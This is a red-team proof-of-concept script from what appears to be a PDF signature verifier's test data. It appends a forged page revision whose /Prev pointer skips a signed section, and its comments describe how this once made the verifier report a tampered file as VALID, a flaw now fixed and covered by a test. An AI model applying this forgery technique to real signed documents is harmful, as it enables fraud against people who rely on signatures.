# Red-team finding (2026-12-07), fixed: a /Prev that skips the signed section hid the signature
# from every reader; countersign now finds it through the unreached startxref and reports it
# hidden (tests/verify_revisions.rs, Hiding::PrevSkipsSigned). Usage: sign classic.pdf -> alice.pdf, then
#   python3 testdata/tools/redteam_skip_signed_section.py alice.pdf 753 forged.pdf
# and sign forged.pdf with another trusted seal: `countersign verify` said VALID, exit 0.
# Alice's signed file -> a revision whose /Prev skips Alice's section (back to the unsigned
# original), with page 1's content forged. Mallory then signs the result with his own seal.
import re, sys
data = open(sys.argv[1], "rb").read()
orig_xref = int(sys.argv[2])   # the unsigned original's startxref
body = b"BT /F1 24 Tf 72 720 Td (Forged) Tj ET"
out = bytearray(data)
off = len(out)
out += b"4 0 obj\n<< /Length %d >>\nstream\n" % len(body) + body + b"\nendstream\nendobj\n"
x = len(out)
out += b"xref\n4 1\n%010d 00000 n \ntrailer\n<< /Size 9 /Root 1 0 R /Info 8 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (off, orig_xref, x)
open(sys.argv[3], "wb").write(out)
